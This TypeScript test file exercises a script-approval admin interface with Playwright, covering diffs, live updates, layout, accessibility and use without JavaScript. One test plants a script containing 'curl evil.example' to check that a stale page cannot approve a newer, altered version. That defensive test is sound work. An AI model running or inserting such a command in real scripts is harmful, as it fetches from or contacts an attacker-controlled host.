import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { fillWithScripts, program, type ScriptsUnderTest, startScripts } from "./admin-scripts-under-test.ts";
import { startBrowser } from "./admin-under-test.ts";
import { axeFaults } from "./axe-faults.ts";
import { crawl, onEachPage } from "./every-page.ts";

const REQUIRED = { CAIRN_CATALOG_APPROVAL: "required" };

describe("every page of scripts", () => {
	let under: ScriptsUnderTest;
	let browser: Browser;
	let pages: string[];
	beforeAll(async () => {
		[under, browser] = await Promise.all([startScripts(REQUIRED), startBrowser()]);
		const { approved, newest } = await fillWithScripts(under);
		const diff = `/scripts/speak/diff?from=${approved}&to=${newest}`;
		pages = [
			"/",
			"/scripts",
			"/laptops",
			"/scripts/speak",
			`/scripts/speak?version=${approved}`,
			"/scripts/echo",
			"/scripts/hidden",
			"/scripts/report",
			"/scripts/past",
			"/scripts/speak/files",
			"/scripts/speak/versions",
			"/scripts/speak/runs",
			"/scripts/speak/source/run.sh",
			"/scripts/speak/source/logo.bin",
			diff,
			`${diff}&view=split`,
			`${diff}&all=1`,
			"/scripts/speak/diff?from=none",
			`/scripts/speak/diff/run.sh?from=${approved}&to=${newest}`,
			`/scripts/speak/diff/logo.bin?from=${approved}&to=${newest}`,
			"/scripts/nowhere",
		];
	});
	afterAll(async () => {
		await browser.close();
		await under[Symbol.asyncDispose]();
	});

	test.each([360, 900, 1_400])("fits a window of %i pixels and keeps the policy", async (width) => {
		const context = await browser.newContext({ viewport: { width, height: 800 }, locale: "en-GB" });
		const trouble: string[] = [];
		context.on("console", (message) => {
			if (message.type() === "error" && !message.text().includes("404 (Not Found)"))
				trouble.push(message.text());
		});
		context.on("weberror", (error) => trouble.push(error.error().message));
		await onEachPage(context, { url: under.url, paths: pages }, async (page, path) => {
			const faults = await page.evaluate(() => {
				const ids = [...document.querySelectorAll("[id]")].map(({ id }) => id);
				const twice = ids.filter((id, index) => ids.indexOf(id) !== index);
				const { scrollWidth, clientWidth } = document.documentElement;
				return [
					...twice,
					...(scrollWidth > clientWidth ? [`${scrollWidth - clientWidth} pixels too wide`] : []),
				];
			});
			expect(faults, path).toEqual([]);
		});
		expect(trouble).toEqual([]);
	});

	test("is at most 50 KB of HTML, and every link on it leads somewhere", async () => {
		const { wrong, seen } = await crawl({
			url: under.url,
			paths: pages.filter((path) => path !== "/scripts/nowhere"),
			isWhole: (path) => path.includes("all=1"),
		});
		expect(wrong).toEqual([]);
		expect(seen).toBeGreaterThan(50);
	});

	test.each(["light", "dark"] as const)(
		"has no fault that axe finds in the %s theme",
		async (colorScheme) => {
			const options = { colorScheme, locale: "en-GB", bypassCSP: true, reducedMotion: "reduce" } as const;
			const faults: string[] = [];
			await onEachPage(
				await browser.newContext(options),
				{ url: under.url, paths: pages },
				async (page, path) => {
					faults.push(...(await axeFaults(page)).map((fault) => `${path}: ${fault}`));
				},
			);
			expect(faults).toEqual([]);
		},
	);
});

describe("a person who looks after the scripts", () => {
	let under: ScriptsUnderTest;
	let browser: Browser;
	let page: Page;
	let digests: { approved: string; newest: string };
	beforeEach(async () => {
		[under, browser] = await Promise.all([startScripts(REQUIRED), startBrowser()]);
		digests = await fillWithScripts(under);
		page = await browser.newPage({ locale: "en-GB" });
	});
	afterEach(async () => {
		await browser.close();
		await under[Symbol.asyncDispose]();
	});

	const open = async (path: string) => {
		await page.goto(`${under.url}${path}`);
		await page.getByText("Changes appear as they happen").waitFor();
	};

	test("learns on Home what waits, sees what changed, and approves just that", async () => {
		await page.goto(under.url);
		await page.getByText("A script waits for your approval:").getByRole("link", { name: "speak" }).click();
		await page.getByRole("heading", { name: "What changed since you approved it" }).waitFor();
		expect(await page.locator("del").textContent()).toBe("one");
		expect(await page.locator("ins").textContent()).toBe("two");
		const approve = page.getByRole("button", { name: "Approve this version" });
		await page.getByLabel("I have looked at the file").check();
		await approve.click();
		await page.locator(".standing").getByText("live").waitFor();
		expect(await approve.count()).toBe(0);
		await page.goto(under.url);
		expect(await page.getByText("waits for your approval").count()).toBe(0);
		await page.getByText("approved speak").waitFor();
	});

	test("can't approve by a page that shows other bytes than the newest", async () => {
		await page.route("**/script-events**", (route) => route.abort());
		await page.goto(`${under.url}/scripts/speak`);
		await page.getByLabel("I have looked at the file").check();
		await under.see("speak", { "run.sh": program("three; curl evil.example") });
		const [response] = await Promise.all([
			page.waitForResponse((one) => one.url().endsWith("/approval")),
			page.getByRole("button", { name: "Approve this version" }).click(),
		]);
		expect(response.status()).toBe(409);
		await page.getByRole("link", { name: "See the newest and what changed in it" }).click();
		await page.getByText("curl evil.example").first().waitFor();
	});

	test("is told at once that a newer version has come, and keeps what he reads", async () => {
		await open("/scripts/speak");
		await page.getByRole("link", { name: /^Show \d+ equal lines$/ }).click();
		await page.getByText("echo step 60").waitFor();
		await under.run("speak", digests.approved, { laptop: "kitchen" });
		await page.locator("#runs ~ .table-scroll, .runs").getByText("kitchen").first().waitFor();
		expect(await page.getByText("echo step 60").count()).toBe(1);
		await under.see("speak", { "run.sh": program("three") });
		await page.getByText("This is not the newest version.").waitFor();
		expect(await page.getByRole("button", { name: "Approve this version" }).count()).toBe(0);
		expect(await page.getByText('"three"').count()).toBe(0);
		await page.getByText("Changes since you opened this page: 2").waitFor();
	});

	test("sees scripts come and change while focus and scroll stay", async () => {
		await page.setViewportSize({ width: 800, height: 400 });
		await open("/scripts");
		const link = page.getByRole("link", { name: "report", exact: true });
		await link.focus();
		await page.evaluate(() => scrollTo(0, 250));
		await under.see("alpha", { "run.sh": "#!/bin/sh\n" });
		await page.locator("#script-alpha").waitFor();
		expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("report");
		const row = await page.locator("#script-report").boundingBox();
		expect(await page.evaluate(() => scrollY)).toBeGreaterThan(200);
		expect(row).not.toBeNull();
		await under.see("echo", { "run.sh": "#!/bin/sh\necho changed\n" });
		await page.locator("#script-echo").getByText("waiting for approval").waitFor();
		expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("report");
	});

	test("is shown what is new although events can't come", async () => {
		await page.route("**/script-events**", (route) => route.fulfill({ status: 503, body: "no" }));
		await page.goto(`${under.url}/scripts`);
		await page.getByText("looking every few seconds").waitFor();
		await under.see("alpha", { "run.sh": "#!/bin/sh\n" });
		await page.locator("#script-alpha").waitFor();
	});

	test("goes to the scripts by keys, and from line to line of a source by its numbers", async () => {
		await page.goto(under.url);
		await page.keyboard.press("g");
		await page.keyboard.press("s");
		await page.waitForURL("**/scripts");
		await page.goto(`${under.url}/scripts/speak/source/run.sh`);
		await page.getByRole("link", { name: "3", exact: true }).click();
		expect(new URL(page.url()).hash).toBe("#L3");
		expect(await page.locator("#L3 .string").textContent()).toBe('"two"');
	});

	test("downloads a file without text as it is", async () => {
		await page.goto(`${under.url}/scripts/speak/source/logo.bin`);
		const [download] = await Promise.all([
			page.waitForEvent("download"),
			page.getByRole("link", { name: "Download" }).click(),
		]);
		const chunks = [];
		for await (const chunk of await download.createReadStream()) chunks.push(chunk);
		expect([...Buffer.concat(chunks)]).toEqual([0, 255]);
	});

	test("does all of it without scripts in the browser", async () => {
		const plain = await browser.newPage({ javaScriptEnabled: false, locale: "en-GB" });
		await plain.goto(under.url);
		await plain.getByRole("navigation", { name: "Rooms" }).getByRole("link", { name: "Scripts" }).click();
		expect(await plain.locator("[data-changes]").isVisible()).toBe(false);
		await plain.getByRole("link", { name: "hidden", exact: true }).click();
		await plain.getByRole("button", { name: "Offer it to laptops" }).click();
		expect(await plain.locator(".standing").textContent()).toContain("live");
		await plain.goto(`${under.url}/scripts/speak`);
		await plain.getByRole("link", { name: /^Show \d+ equal lines$/ }).click();
		expect(await plain.locator("table.diff").textContent()).toContain("echo step 60");
		await plain.goto(`${under.url}/scripts/speak`);
		await plain.getByLabel("I have looked at the file").check();
		await plain.getByRole("button", { name: "Approve this version" }).click();
		expect(await plain.locator(".standing").textContent()).toContain("live");
		await plain.getByRole("link", { name: "All runs" }).click();
		await plain.getByRole("link", { name: "Next page" }).click();
		expect(await plain.locator("tbody tr").count()).toBe(15);
		await plain.goto(`${under.url}/scripts/speak/diff`);
		await plain.locator("select[name=from]").selectOption("none");
		await plain.getByRole("button", { name: "Compare" }).click();
		expect(await plain.getByText("3 files differ").count()).toBe(1);
		await plain.context().close();
	});
});
